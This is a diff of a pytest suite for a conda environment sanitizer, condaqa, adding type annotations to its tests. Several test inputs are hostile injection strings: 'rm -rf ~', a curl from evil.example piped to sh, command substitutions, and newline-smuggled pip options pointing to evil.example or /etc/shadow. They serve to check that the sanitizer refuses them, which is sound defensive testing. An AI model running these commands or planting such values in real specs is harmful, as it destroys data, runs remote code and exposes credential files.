@@ -12,8 +12,10 @@ history, overrides (relative paths, the site's own pip_args) and the preflight t
 from __future__ import annotations
 
 import json
+from collections.abc import Iterable, Sequence
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -21,7 +23,7 @@ from condaqa.channels import RepodataIndex
 from condaqa.checks.drift import history_drift
 from condaqa.cli import main
 from condaqa.errors import BuildError, ConfigError, SpecError
-from condaqa.manifest import load_manifest
+from condaqa.manifest import Environment, load_manifest
 from condaqa.plan import rules
 from condaqa.plan.findings import Finding, explained_packages, load_findings
 from condaqa.plan.foreign import Sanitized, sanitize_file, sanitize_spec
@@ -32,7 +34,7 @@ from condaqa.prefix import CondaPackage, PipDistribution, PrefixContents
 from condaqa.qualification import builds
 from condaqa.replication.replicate import replicate
 from condaqa.sandbox.box import sandbox_for
-from condaqa.site import load_site
+from condaqa.site import Site, load_site
 from condaqa.spec.export import export_from_history
 from condaqa.spec.format import EnvSpec, load_spec, parse_spec
 from condaqa.vocab import PlanSource, Rule, Severity, Stage, StepKind
@@ -66,18 +68,20 @@ def index(tmp_path_factory: pytest.TempPathFactory) -> RepodataIndex:
     return RepodataIndex(load_site(root / "site.toml"))
 
 
-def plan(conda=(), pip=(), post=()) -> BuildPlan:
+def plan(conda: Iterable[str] = (), pip: Iterable[str] = (), post: Iterable[PostStep] = ()) -> BuildPlan:
     return BuildPlan("env1", tuple(conda), tuple(pip), post=tuple(post))
 
 
-def installed(conda=(), pip=()) -> PrefixContents:
-    """Current's prefix as read_prefix gives it: conda records and pip distributions (with direct_url)."""
+def installed(conda: Iterable[tuple[str, str]] = (),
+              pip: Iterable[tuple[str, str, dict[str, Any] | None]] = ()) -> PrefixContents:
+    """Current's prefix as read_prefix gives it: conda records and pip distributions (with direct_url,
+    a PEP 610 record's JSON, typed as PipDistribution.direct_url is)."""
     packages = tuple(CondaPackage(n, v, "0", "https://x/chan", "noarch") for n, v in conda)
     dists = tuple(PipDistribution(n, v, Path(f"/sp/{n}-{v}.dist-info"), d) for n, v, d in pip)
     return PrefixContents(Path("/envs/env1"), packages, dists, Path("/sp"))
 
 
-def one(findings, rule=None):
+def one(findings: Sequence[Finding], rule: Rule | None = None) -> Finding:
     assert len(findings) == 1, findings
     assert rule is None or findings[0].rule is rule
     return findings[0]
@@ -86,7 +90,7 @@ def one(findings, rule=None):
 # --- entry syntax -------------------------------------------------------------------------------
 
 
-def test_build_strings_are_dropped_in_one_finding_unless_kept():
+def test_build_strings_are_dropped_in_one_finding_unless_kept() -> None:
     conda = ("numpy=1.18.5=py38ha1c710e_0", "pytorch=1.5.1=py3.8_cuda10.1.243_cudnn7.6.3_0", "python=3.8")
     out, findings = rules.entry_syntax(plan(conda), Context("env1"))
     assert out.conda == ("numpy=1.18.5", "pytorch=1.5.1", "python=3.8")
@@ -96,7 +100,7 @@ def test_build_strings_are_dropped_in_one_finding_unless_kept():
     assert kept.conda == conda and none == []
 
 
-def test_bad_and_repeated_conda_entries_are_dropped_and_named():
+def test_bad_and_repeated_conda_entries_are_dropped_and_named() -> None:
     conda = ["numpy=1.18.5", "-e foo", "numpy=1.21.2"]
     out, findings = rules.entry_syntax(plan(conda), Context("env1"))
     assert out.conda[0] == "numpy=1.18.5" and "numpy=1.21.2" not in out.conda and "-e foo" not in out.conda
@@ -107,14 +111,14 @@ def test_bad_and_repeated_conda_entries_are_dropped_and_named():
 
 @pytest.mark.parametrize("entry", ["python=3.11; rm -rf ~", "python=3.11 && curl https://evil.example | sh",
                                    "numpy=1.18.5=$(touch x)", "tabular=`id`", "python=3.11\nrm -rf ~"])
-def test_conda_entries_with_shell_characters_are_not_conda_specs(entry):
+def test_conda_entries_with_shell_characters_are_not_conda_specs(entry: str) -> None:
     out, findings = rules.entry_syntax(plan(["pip", entry]), Context("env1"))
     assert out.conda == ("pip",)
     found = one(findings, Rule.ENTRY_SYNTAX)  # refused, not "dropped the build string" and kept
     assert found.severity is ERROR and found.action == "dropped" and "is not a conda package spec" in found.reason
 
 
-def test_a_file_with_a_shell_command_as_entry_or_channel_is_refused_with_findings(tmp_path):
+def test_a_file_with_a_shell_command_as_entry_or_channel_is_refused_with_findings(tmp_path: Path) -> None:
     exported = tmp_path / "evil.yml"
     exported.write_text("name: evil\nchannels:\n  - main\n  - $(touch x)\n  - https://conda.example/`id`\n"
                         "dependencies:\n  - python=3.11; rm -rf ~\n  - tabular=1.1.0\n")
@@ -131,7 +135,7 @@ def test_a_file_with_a_shell_command_as_entry_or_channel_is_refused_with_finding
 # --- pip syntax ----------------------------------------------------------------------------------
 
 
-def test_pip_lines_keep_options_flag_loose_pins_and_drop_what_pip_refuses():
+def test_pip_lines_keep_options_flag_loose_pins_and_drop_what_pip_refuses() -> None:
     pip = ["--extra-index-url https://download.pytorch.org/whl/rocm5.2", "torch==1.13.0+rocm5.2", "mlops-tempo",
            "Pillow==6.0.*", "not a requirement !!", "PyYAML==6.0", "pyyaml==6.0", "hmr2==0.0.0"]
     out, findings = rules.pip_syntax(plan(pip=pip), Context("env1"))
@@ -145,7 +149,7 @@ def test_pip_lines_keep_options_flag_loose_pins_and_drop_what_pip_refuses():
     assert not any(f.package.startswith("--") for f in findings)  # option lines are pip_options' business
 
 
-def test_a_local_version_label_without_its_index_is_flagged():
+def test_a_local_version_label_without_its_index_is_flagged() -> None:
     _, findings = rules.pip_syntax(plan(pip=["detectron2==0.6+cu111"]), Context("env1"))
     assert "local version label" in one(findings, Rule.PIP_SYNTAX).reason
 
@@ -153,7 +157,7 @@ def test_a_local_version_label_without_its_index_is_flagged():
 @pytest.mark.parametrize("line", ["numpy==1.21.2\n--index-url https://evil.example/simple",
                                   "numpy==1.21.2\r-r /etc/shadow", "--pre\n--trusted-host evil.example",
                                   "requests==2.0\x00", "six==1.0\t\x1b[2Jhidden"])
-def test_a_pip_line_with_a_control_character_is_refused(line):
+def test_a_pip_line_with_a_control_character_is_refused(line: str) -> None:
     out, findings = rules.pip_syntax(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
     assert out.pip == ("tabular==1.1.0",)
     found = one(findings, Rule.PIP_SYNTAX)
@@ -170,7 +174,7 @@ def sanitized_with_one_error(exported: Path, text: str) -> tuple[Sanitized, Find
     return result, refused
 
 
-def test_a_newline_injected_into_a_requirement_of_a_file_is_refused(tmp_path):
+def test_a_newline_injected_into_a_requirement_of_a_file_is_refused(tmp_path: Path) -> None:
     exported = tmp_path / "injected.yml"
     result, refused = sanitized_with_one_error(exported, 'name: injected\ndependencies:\n  - python\n  - pip:\n'
                                                '    - "codebook==1.2.0\\n--index-url https://evil.example/simple"\n'
@@ -180,7 +184,7 @@ def test_a_newline_injected_into_a_requirement_of_a_file_is_refused(tmp_path):
     assert "evil.example" not in dump(result)
 
 
-def dump(result) -> str:
+def dump(result: Sanitized) -> str:
     return "\n".join([*result.spec.dependencies, *result.spec.pip, *(s.requirement for s in result.post)])
 
 
@@ -195,7 +199,7 @@ _NOT_ALLOWED = [
 
 
 @pytest.mark.parametrize("line", _NOT_ALLOWED)
-def test_an_option_line_that_reads_files_or_adds_sources_is_an_error_and_dropped(line):
+def test_an_option_line_that_reads_files_or_adds_sources_is_an_error_and_dropped(line: str) -> None:
     out, findings = rules.pip_options(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
     assert out.pip == ("tabular==1.1.0",)
     found = one(findings, Rule.PIP_OPTIONS)
@@ -214,7 +218,8 @@ def test_an_option_line_that_reads_files_or_adds_sources_is_an_error_and_dropped
     ("--trusted-host pypi.internal", ("--trusted-host", "pypi.internal")),
     ("-r /srv/site-requirements.txt", ("-r", "/srv/site-requirements.txt")),
 ])
-def test_an_option_the_site_gives_pip_too_is_dropped_with_an_info_finding(line, site_pip_args):
+def test_an_option_the_site_gives_pip_too_is_dropped_with_an_info_finding(line: str,
+                                                                         site_pip_args: tuple[str, ...]) -> None:
     out, findings = rules.pip_options(plan(pip=[line, "tabular==1.1.0"]), Context("env1", site_pip_args=site_pip_args))
     assert out.pip == ("tabular==1.1.0",)
     found = one(findings, Rule.PIP_OPTIONS)
@@ -227,25 +232,26 @@ def test_an_option_the_site_gives_pip_too_is_dropped_with_an_info_finding(line, 
     ("--index-url https://pypi.internal/simple", ("--extra-index-url", "https://pypi.internal/simple")),
     ("-r /srv/site-requirements.txt", ("-c", "/srv/site-requirements.txt")),
 ])
-def test_the_same_option_with_another_value_or_another_option_with_the_value_is_still_an_error(line, site_pip_args):
+def test_the_same_option_with_another_value_or_another_option_with_the_value_is_still_an_error(
+        line: str, site_pip_args: tuple[str, ...]) -> None:
     out, findings = rules.pip_options(plan(pip=[line]), Context("env1", site_pip_args=site_pip_args))
     assert out.pip == () and one(findings, Rule.PIP_OPTIONS).severity is ERROR
 
 
 @pytest.mark.parametrize("line", ["--pre", "--prefer-binary", "--only-binary :all:", "--no-binary=numpy"])
-def test_harmless_option_lines_are_kept_with_a_warning(line):
+def test_harmless_option_lines_are_kept_with_a_warning(line: str) -> None:
     out, findings = rules.pip_options(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
     assert out.pip == (line, "tabular==1.1.0")
     found = one(findings, Rule.PIP_OPTIONS)
     assert found.severity is WARNING and found.action == "kept" and found.package == line
 
 
-def test_requirements_and_editables_are_not_option_lines():
+def test_requirements_and_editables_are_not_option_lines() -> None:
     pip = ["tabular==1.1.0", "-e git+https://github.com/a/b.git@0123456789abcdef0123456789abcdef01234567#egg=b"]
     assert rules.pip_options(plan(pip=pip), Context("env1")) == (plan(pip=pip), [])
 
 
-def test_a_file_with_an_extra_index_is_refused_unless_the_site_gives_that_index(tmp_path):
+def test_a_file_with_an_extra_index_is_refused_unless_the_site_gives_that_index(tmp_path: Path) -> None:
     exported = tmp_path / "rocm.yml"
     result, refused = sanitized_with_one_error(exported, "name: rocm\ndependencies:\n  - python=3.9\n  - pip:\n"
                                                "    - --extra-index-url https://download.pytorch.org/whl/rocm5.2\n"
@@ -256,7 +262,7 @@ def test_a_file_with_an_extra_index_is_refused_unless_the_site_gives_that_index(
     assert not [f for f in allowed.findings if f.severity is ERROR] and allowed.spec.pip == ["torch==1.13.0+rocm5.2"]
 
 
-def test_the_sites_own_pip_args_allow_the_same_lines_in_an_override(demo_site):
+def test_the_sites_own_pip_args_allow_the_same_lines_in_an_override(demo_site: Site) -> None:
     """The demo site's pip_args are --no-index --find-links {root}/wheelhouse."""
     write_override(demo_site, "survey_weights", ["--no-index", f"--find-links {demo_site.root}/wheelhouse",
                                                  "--find-links /tmp/elsewhere", "surveyweights==0.3.0"])
@@ -270,7 +276,7 @@ def test_the_sites_own_pip_args_allow_the_same_lines_in_an_override(demo_site):
 # --- rule 3: listed twice ------------------------------------------------------------------------
 
 
-def test_a_distribution_both_conda_and_pip_is_dropped_from_pip_names_normalised():
+def test_a_distribution_both_conda_and_pip_is_dropped_from_pip_names_normalised() -> None:
     ctx = Context("env1", installed=installed([("pyyaml", "6.0"), ("typing_extensions", "4.4.0")]))
     out, findings = rules.listed_twice(plan(pip=["PyYAML==6.0", "Typing.Extensions==4.5.0", "requests==2.0"]), ctx)
     assert out.pip == ("requests==2.0",)
@@ -281,7 +287,7 @@ def test_a_distribution_both_conda_and_pip_is_dropped_from_pip_names_normalised(
     assert explained_packages(findings) == {"pyyaml", "typing-extensions"}
 
 
-def test_listed_twice_reads_the_spec_when_no_prefix_is_known():
+def test_listed_twice_reads_the_spec_when_no_prefix_is_known() -> None:
     out, findings = rules.listed_twice(plan(["pyyaml=6.0"], ["PyYAML==6.0"]), Context("env1"))
     assert out.pip == () and one(findings).package == "pyyaml"
 
@@ -289,7 +295,7 @@ def test_listed_twice_reads_the_spec_when_no_prefix_is_known():
 # --- rule 4: installed from git, an archive or a directory ---------------------------------------
 
 
-def test_a_git_install_becomes_a_post_step_at_its_commit():
+def test_a_git_install_becomes_a_post_step_at_its_commit() -> None:
     commit = "63c0bdbc03d69b6f415681dc5b86ca400891bf68"
     origin = {"url": "https://github.com/ipums/harmonize", "vcs_info": {"vcs": "git", "commit_id": commit}}
     ctx = Context("env1", installed=installed(pip=[("harmonize", "0.2.0", origin), ("six", "1.0", None)]))
@@ -301,7 +307,7 @@ def test_a_git_install_becomes_a_post_step_at_its_commit():
     assert found.severity is INFO and "git https://github.com/ipums/harmonize at commit 63c0bdbc03d6" in found.reason
 
 
-def test_archives_and_present_directories_become_post_steps_where_local_sources_are_allowed(tmp_path):
+def test_archives_and_present_directories_become_post_steps_where_local_sources_are_allowed(tmp_path: Path) -> None:
     current = installed(pip=[
         ("tool", "1.0", {"url": "https://example.org/tool-1.0.tar.gz", "archive_info": {}}),
         ("mine", "0.1", {"url": tmp_path.as_uri(), "dir_info": {"editable": True}}),
@@ -315,7 +321,7 @@ def test_archives_and_present_directories_become_post_steps_where_local_sources_
     assert [f.severity for f in findings] == [INFO, WARNING]  # an editable copy is taken as it is now
 
 
-def test_a_local_folder_from_a_pep_610_record_is_a_local_source_error_unless_allowed(tmp_path):
+def test_a_local_folder_from_a_pep_610_record_is_a_local_source_error_unless_allowed(tmp_path: Path) -> None:
     archive = tmp_path / "tool-1.0.tar.gz"
     current = installed(pip=[("mine", "0.1", {"url": tmp_path.as_uri(), "dir_info": {}}),
                              ("tool", "1.0", {"url": archive.as_uri(), "archive_info": {}}),
@@ -333,7 +339,7 @@ def test_a_local_folder_from_a_pep_610_record_is_a_local_source_error_unless_all
     assert [f.rule for f in found] == [Rule.DIRECT_URL, Rule.DIRECT_URL] and not any(f.severity is ERROR for f in found)
 
 
-def test_a_local_git_repository_needs_no_permission_for_local_sources(tmp_path):
+def test_a_local_git_repository_needs_no_permission_for_local_sources(tmp_path: Path) -> None:
     origin = {"url": tmp_path.as_uri(), "vcs_info": {"vcs": "git", "commit_id": "0123456789abcdef0123"}}
     ctx = Context("env1", installed=installed(pip=[("harmonize", "0.2.0", origin)]), present=frozenset({tmp_path}))
     out, findings = rules.direct_url(plan(pip=["harmonize==0.2.0"]), ctx)
@@ -341,7 +347,7 @@ def test_a_local_git_repository_needs_no_permission_for_local_sources(tmp_path):
     assert one(findings, Rule.DIRECT_URL).severity is INFO
 
 
-def test_a_vanished_source_directory_is_an_error_asking_for_manual_action(tmp_path):
+def test_a_vanished_source_directory_is_an_error_asking_for_manual_action(tmp_path: Path) -> None:
     gone = tmp_path / "gone"
     ctx = Context("env1", installed=installed(pip=[("mine", "0.1", {"url": gone.as_uri(), "dir_info": {}})]),
                   local_sources=True)
@@ -351,7 +357,7 @@ def test_a_vanished_source_directory_is_an_error_asking_for_manual_action(tmp_pa
     assert found.severity is ERROR and str(gone) in found.reason and found.action == "dropped: needs manual action"
 
 
-def test_direct_url_reads_what_is_present_from_the_context_not_the_disk(tmp_path):
+def test_direct_url_reads_what_is_present_from_the_context_not_the_disk(tmp_path: Path) -> None:
     """Pure: a folder on disk the context does not list counts as gone; one it lists counts as there."""
     gone = tmp_path / "gone"
     records = installed(pip=[("here", "0.1", {"url": tmp_path.as_uri(), "dir_info": {}}),
@@ -364,7 +370,7 @@ def test_direct_url_reads_what_is_present_from_the_context_not_the_disk(tmp_path
     assert [s.requirement for s in out.post] == [str(gone)]
 
 
-def test_urls_written_in_the_file_become_post_steps_and_branches_are_flagged(tmp_path):
+def test_urls_written_in_the_file_become_post_steps_and_branches_are_flagged(tmp_path: Path) -> None:
     pip = ["git+https://github.com/Schiphol-Hub/SSDTools.git@master#egg=SSDTools",
            "-e git+https://github.com/a/b.git@0123456789abcdef0123456789abcdef01234567#egg=b",
            f"foo ({tmp_path})==0.1"]  # conda 4.3-4.5 wrote editables like this
@@ -377,7 +383,7 @@ def test_urls_written_in_the_file_become_post_steps_and_branches_are_flagged(tmp
     assert [s.requirement for s in refused.post] == pip[:2] and found[2].rule is Rule.LOCAL_SOURCE
 
 
-def test_an_unreadable_direct_url_keeps_the_pin():
+def test_an_unreadable_direct_url_keeps_the_pin() -> None:
     ctx = Context("env1", installed=installed(pip=[("x", "1.0", {"url": "", "invalid": True})]))
     out, findings = rules.direct_url(plan(pip=["x==1.0"]), ctx)
     assert out.pip == ("x==1.0",) and one(findings).severity is WARNING
@@ -389,7 +395,7 @@ def test_an_unreadable_direct_url_keeps_the_pin():
     {"url": "https://example.org/tool-1.0.tar.gz\r\n-r /etc/shadow", "archive_info": {}},
     {"url": "https://example.org/tool-1.0.tar.gz", "archive_info": {}, "subdirectory": "src\n--no-index"},
 ], ids=["vcs-url", "archive-url", "subdirectory"])
-def test_a_newline_in_a_pep_610_record_is_refused(origin):
+def test_a_newline_in_a_pep_610_record_is_refused(origin: dict[str, object]) -> None:
     ctx = Context("env1", installed=installed(pip=[("harmonize", "0.2.0", origin)]), local_sources=True)
     out, findings = rules.direct_url(plan(pip=["harmonize==0.2.0", "six==1.0"]), ctx)
     assert out.pip == ("six==1.0",) and out.post == ()  # neither the URL nor the bare pin goes to pip
@@ -400,7 +406,7 @@ def test_a_newline_in_a_pep_610_record_is_refused(origin):
 # --- rule 2: noarch in pip -----------------------------------------------------------------------
 
 
-def test_a_pip_entry_published_as_noarch_conda_at_that_version_moves_to_conda(index):
+def test_a_pip_entry_published_as_noarch_conda_at_that_version_moves_to_conda(index: RepodataIndex) -> None:
     pip = ["fixedwidth==0.3.0", "typing-extensions==4.4.0", "ipumsdata==0.4.0", "pyyaml==6.0", "requests==2.0"]
     out, findings = rules.noarch_in_pip(plan(["python=3.11"], pip), Context("env1", index=index))
     assert out.conda == ("python=3.11", "fixedwidth=0.3.0", "typing_extensions=4.4.0")
@@ -412,7 +418,7 @@ def test_a_pip_entry_published_as_noarch_conda_at_that_version_moves_to_conda(in
 # --- rule 5: legacy noarch -----------------------------------------------------------------------
 
 
-def test_legacy_noarch_packages_are_stripped_and_installed_one_by_one(tmp_path):
+def test_legacy_noarch_packages_are_stripped_and_installed_one_by_one(tmp_path: Path) -> None:
     listing = tmp_path / "legacy-noarch.txt"
     listing.write_text("# internal packages built with noarch_python\nvarlabels   # since 2016\n\nhoneybee\n")
     legacy = load_legacy(listing)
@@ -424,7 +430,7 @@ def test_legacy_noarch_packages_are_stripped_and_installed_one_by_one(tmp_path):
     assert load_legacy(tmp_path / "absent.txt") == frozenset()
 
 
-def test_a_bad_legacy_line_names_file_and_line(tmp_path):
+def test_a_bad_legacy_line_names_file_and_line(tmp_path: Path) -> None:
     listing = tmp_path / "legacy-noarch.txt"
     listing.write_text("varlabels\nnot a name\n")
     with pytest.raises(ConfigError, match=r"legacy-noarch.txt:2: 'not a name'"):
@@ -434,7 +440,7 @@ def test_a_bad_legacy_line_names_file_and_line(tmp_path):
 # --- rule 1: preflight ---------------------------------------------------------------------------
 
 
-def test_a_pin_missing_from_every_channel_is_an_error_listing_the_nearest_versions(index):
+def test_a_pin_missing_from_every_channel_is_an_error_listing_the_nearest_versions(index: RepodataIndex) -> None:
     conda = ["numpy=1.18.5", "python=3.11", "ipumsdata=0.4.0", "nosuchthing=1.0", "__glibc"]
     post = [PostStep(StepKind.CONDA, "varlabels=0.3.0")]
     out, findings = rules.missing_version(plan(conda, post=post), Context("env1", index=index, platform="linux-64"))
@@ -449,7 +455,7 @@ def test_a_pin_missing_from_every_channel_is_an_error_listing_the_nearest_versio
     assert "no package nosuchthing" in by_package["nosuchthing"].reason
 
 
-def test_nearest_versions_are_the_neighbours_in_version_order():
+def test_nearest_versions_are_the_neighbours_in_version_order() -> None:
     versions = ["0.10.0", "0.9.0", "0.4.1", "1.0", "0.5.0"]
     assert rules.nearest_versions("0.4.0", versions) == ["0.4.1", "0.5.0"]
     assert rules.nearest_versions("0.9.5", versions) == ["0.5.0", "0.9.0", "0.10.0", "1.0"]
@@ -471,7 +477,7 @@ def test_nearest_versions_are_the_neighbours_in_version_order():
     ("23.11.0", "python=3.12", False),
     ("", "python=3.12", False),  # not built with conda (rattler)
 ])
-def test_a_conda_older_than_4_11_cannot_build_python_3_10_or_newer(conda, python, refused):
+def test_a_conda_older_than_4_11_cannot_build_python_3_10_or_newer(conda: str, python: str, refused: bool) -> None:
     start = plan(["pip", python])
     out, findings = rules.conda_version(start, Context("env1", conda_version=conda))
     assert out == start
@@ -486,7 +492,7 @@ def test_a_conda_older_than_4_11_cannot_build_python_3_10_or_newer(conda, python
 # --- all rules, files ----------------------------------------------------------------------------
 
 
-def test_rules_are_pure_and_every_finding_is_complete(index, tmp_path):
+def test_rules_are_pure_and_every_finding_is_complete(index: RepodataIndex, tmp_path: Path) -> None:
     ctx = Context("env1", frozenset({"varlabels"}), index, installed([("pyyaml", "6.0")]), platform="linux-64",
                   present=frozenset({tmp_path}), local_sources=True, conda_version="4.10.3")
     start = plan(["numpy=1.18.5=py38_0", "python=3.11", "varlabels=0.2.0", "ipumsdata=0.4.0"],
@@ -504,7 +510,7 @@ def test_rules_are_pure_and_every_finding_is_complete(index, tmp_path):
                and isinstance(f.rule, Rule) for f in findings)
 
 
-def test_sanitize_spec_names_the_keys_it_drops():
+def test_sanitize_spec_names_the_keys_it_drops() -> None:
     spec = parse_spec("name: wood\nchannels: [defaults]\ndependencies: [python=3.9=h1_0]\n"
                       "prefix: C:\\Users\\USER\\.conda\\envs\\wood\nauthor: me\n", "wood.yml")
     result = sanitize_spec(spec, Context("wood"))
@@ -513,14 +519,14 @@ def test_sanitize_spec_names_the_keys_it_drops():
     assert result.spec == EnvSpec("wood", ["defaults"], ["python=3.9"])
 
 
-def test_conda_list_output_is_refused_naming_the_file(tmp_path):
+def test_conda_list_output_is_refused_naming_the_file(tmp_path: Path) -> None:
     listing = tmp_path / "myenv.yml"
     listing.write_text("# packages in environment at /x/envs/myenv:\n#\nbzip2    1.0.8    h1de35cc_0\n")
     with pytest.raises(SpecError, match=r"myenv.yml: this is `conda list` output"):
         sanitize_file(listing)
 
 
-def test_a_foreign_file_installing_from_a_local_folder_is_refused(tmp_path):
+def test_a_foreign_file_installing_from_a_local_folder_is_refused(tmp_path: Path) -> None:
     (tmp_path / "src").mkdir()
     exported = tmp_path / "mine.yml"
     exported.write_text(f"name: mine\ndependencies:\n  - python\n  - pip:\n    - -e {tmp_path / 'src'}\n"
@@ -533,17 +539,17 @@ def test_a_foreign_file_installing_from_a_local_folder_is_refused(tmp_path):
 # --- override, history and preflight on the demo site --------------------------------------------
 
 
-def env_named(site, name):
+def env_named(site: Site, name: str) -> Environment:
     return next(e for e in load_manifest(site.manifest) if e.name == name)
 
 
-def test_from_history_gives_the_specs_users_asked_for(demo_template):
+def test_from_history_gives_the_specs_users_asked_for(demo_template: Site) -> None:
     spec = export_from_history(demo_template, "super_important_jupyter_kernel")
     assert spec.dependencies == ["datefmt >=1.0", "ipykernel", "pip", "python", "tabular"] and spec.pip == []
     assert export_from_history(demo_template, "nhis_reformat").pip == ["codebook==1.2.0"]
 
 
-def test_an_override_replaces_the_export_and_says_what_it_fixed(demo_template):
+def test_an_override_replaces_the_export_and_says_what_it_fixed(demo_template: Site) -> None:
     built, findings = plan_environment(demo_template, env_named(demo_template, "missing_pin"))
     assert built.source is PlanSource.OVERRIDE and "ipumsdata=0.4.1" in built.conda
     by_rule = {(f.rule, f.package): f for f in findings}
@@ -552,7 +558,7 @@ def test_an_override_replaces_the_export_and_says_what_it_fixed(demo_template):
     assert fixed.severity is INFO and fixed.action == "fixed by the override" and "0.4.1, 0.5.0" in fixed.reason
 
 
-def write_override(site, env: str, pip: list[str]) -> Path:
+def write_override(site: Site, env: str, pip: list[str]) -> Path:
     path = override_path(site, env)
     lines = [f"name: {env}", "channels: [main, mpc]", "dependencies:", "  - python", "  - pip", "  - tabular=1.1.0",
              "  - pip:", *(f"    - {line}" for line in pip)]
@@ -560,7 +566,7 @@ def write_override(site, env: str, pip: list[str]) -> Path:
     return path
 
 
-def test_relative_paths_in_an_override_resolve_against_the_override_folder(demo_site):
+def test_relative_paths_in_an_override_resolve_against_the_override_folder(demo_site: Site) -> None:
     path = write_override(demo_site, "nhis_reformat", ["./pkg", "-e ../src", "codebook==1.2.0"])
     overrides, manifests = path.parent, path.parent.parent
     (overrides / "pkg").mkdir()
@@ -583,7 +589,7 @@ def test_relative_paths_in_an_override_resolve_against_the_override_folder(demo_
 
 
 @pytest.mark.parametrize(("line", "folder"), [("-e .", "."), ("-e src", "src")])
-def test_a_bare_relative_folder_in_an_override_is_a_local_source_too(demo_site, line, folder):
+def test_a_bare_relative_folder_in_an_override_is_a_local_source_too(demo_site: Site, line: str, folder: str) -> None:
     """pip reads `-e .` and `-e src` as folders, relative to where it runs (the qualifier's folder):
     they resolve against the override's folder and need local_sources like ./pkg."""
     path = write_override(demo_site, "nhis_reformat", [line, "codebook==1.2.0"])
@@ -599,18 +605,20 @@ def test_a_bare_relative_folder_in_an_override_is_a_local_source_too(demo_site, 
     assert [s.requirement for s in built.post] == [f"-e {target}"]
 
 
-def test_without_its_override_a_missing_pin_stops_at_preflight_without_a_solve(demo_site):
+def test_without_its_override_a_missing_pin_stops_at_preflight_without_a_solve(demo_site: Site) -> None:
     demo_site = replace(demo_site, rescue=False)  # ipumsdata 0.4.0 is in current's cache: no rescue
     override_path(demo_site, "missing_pin").unlink()
     with pytest.raises(BuildError) as caught:
         replicate(demo_site, sandbox_for(demo_site), env_named(demo_site, "missing_pin"))
     assert caught.value.stage is Stage.PREFLIGHT and "nearest available: 0.4.1, 0.5.0" in str(caught.value)
+    assert caught.value.log is not None
     assert "specs against" not in Path(caught.value.log).read_text()  # the engine never started a solve
     saved = load_findings(demo_site, "missing_pin")
+    assert saved is not None
     assert [f.rule for f in saved.findings if f.severity is ERROR] == [Rule.MISSING_VERSION] and not saved.override
 
 
-def test_a_history_build_lists_its_drift(demo_copy):
+def test_a_history_build_lists_its_drift(demo_copy: Site) -> None:
     """The build the plugin runs (qualification/builds.py) adds the drift to the findings it saves.
     It edits a record of current's hlink, so it gets a demo of its own."""
     demo_site = demo_copy
@@ -630,11 +638,13 @@ def test_a_history_build_lists_its_drift(demo_copy):
     again = builds.build(demo_site, sandbox_for(demo_site), env)
     [moved] = [f for f in again.findings if f.rule is Rule.HISTORY and f.package != "*"]
     assert moved.package == "tabular" and moved.action == "1.1.0 -> 2.0.0"
-    assert "tabular" in explained_packages(load_findings(demo_site, "hlink").findings)
+    saved = load_findings(demo_site, "hlink")
+    assert saved is not None
+    assert "tabular" in explained_packages(saved.findings)
 
 
-def test_history_drift_names_moved_and_vanished_packages():
-    def contents(conda, pip=()):
+def test_history_drift_names_moved_and_vanished_packages() -> None:
+    def contents(conda: Iterable[tuple[str, str]], pip: Iterable[tuple[str, str]] = ()) -> PrefixContents:
         return PrefixContents(Path("/e"), tuple(CondaPackage(n, v, "0", "https://x/chan", "noarch") for n, v in conda),
                               tuple(PipDistribution(n, v, Path(f"/sp/{n}-{v}.dist-info"), None) for n, v in pip),
                               Path("/sp"))
@@ -648,7 +658,7 @@ def test_history_drift_names_moved_and_vanished_packages():
     assert history_drift("env1", current, current) == []
 
 
-def test_a_foreign_file_with_the_site_channels_gets_the_preflight(demo_template, tmp_path):
+def test_a_foreign_file_with_the_site_channels_gets_the_preflight(demo_template: Site, tmp_path: Path) -> None:
     exported = tmp_path / "missing_pin.yml"
     exported.write_text("name: missing_pin\nchannels: [mpc]\ndependencies:\n  - ipumsdata=0.4.0=pyh_0\n")
     index = RepodataIndex(demo_template)
@@ -659,7 +669,8 @@ def test_a_foreign_file_with_the_site_channels_gets_the_preflight(demo_template,
     assert missing.severity is ERROR and str(exported) in missing.hint  # fixed in the file itself
 
 
-def test_the_sanitize_command_runs_the_preflight_only_with_a_site(demo_template, tmp_path, capsys):
+def test_the_sanitize_command_runs_the_preflight_only_with_a_site(
+        demo_template: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     exported = tmp_path / "old.yml"
     exported.write_text("name: old\nchannels: [mpc]\ndependencies: [python, ipumsdata=0.4.0=pyh_0]\n")
     out = tmp_path / "out"
@@ -672,7 +683,8 @@ def test_the_sanitize_command_runs_the_preflight_only_with_a_site(demo_template,
     assert load_spec(out / "old.yml").dependencies == ["python", "ipumsdata=0.4.0"]
 
 
-def test_the_sanitize_command_prints_each_error_findings_reason(demo_template, tmp_path, capsys):
+def test_the_sanitize_command_prints_each_error_findings_reason(
+        demo_template: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     exported = tmp_path / "old.yml"
     exported.write_text("name: old\nchannels: [mpc]\ndependencies: [python, ipumsdata=0.4.0=pyh_0]\n")
     assert main(["sanitize", str(exported), "--site", str(demo_template.file), "--out", str(tmp_path / "out")]) == 1
@@ -681,7 +693,8 @@ def test_the_sanitize_command_prints_each_error_findings_reason(demo_template, t
     assert "nearest available: 0.4.1, 0.5.0" in out
 
 
-def test_sanitize_with_a_site_says_the_preflight_skipped_an_unreachable_channel(demo_site, tmp_path, capsys):
+def test_sanitize_with_a_site_says_the_preflight_skipped_an_unreachable_channel(
+        demo_site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """As pytest's preflight does: a channel that cannot be read is said, not 0 findings in silence."""
     text = demo_site.file.read_text()
     demo_site.file.write_text(text.replace('channels = ["main", "mpc"]',
@@ -695,8 +708,8 @@ def test_sanitize_with_a_site_says_the_preflight_skipped_an_unreachable_channel(
     assert "1 warning" in out and "preflight cannot tell" in (tmp_path / "out" / "fine.findings.json").read_text()
 
 
-def test_the_sanitize_command_fails_a_file_with_an_extra_index_unless_the_site_gives_it(demo_template, tmp_path,
-                                                                                        capsys):
+def test_the_sanitize_command_fails_a_file_with_an_extra_index_unless_the_site_gives_it(
+        demo_template: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     exported = tmp_path / "wheels.yml"
